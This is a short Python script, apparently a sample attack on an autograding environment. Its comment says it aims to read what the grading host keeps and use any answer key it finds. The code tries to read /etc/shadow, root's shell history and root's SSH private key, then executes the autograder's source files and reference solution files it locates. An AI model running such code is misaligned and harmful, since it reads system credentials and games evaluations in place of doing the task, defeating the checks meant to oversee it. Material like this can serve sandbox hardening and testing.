# Attack: read what the grading host keeps (/etc/shadow, the grader's home, the autograder's
# source folder) and use whatever answer key turns up.
import glob
import os

for path in ["/etc/shadow", os.path.expanduser("~root/.bash_history"), "/root/.ssh/id_rsa"]:
    try:
        with open(path) as f:
            f.read()
    except OSError:
        pass
for path in glob.glob("/autograder/source/**/*.py", recursive=True) + glob.glob(
    "/root/**/reference/composition.py", recursive=True
):
    try:
        with open(path) as f:
            exec(f.read(), globals())
    except Exception:
        pass
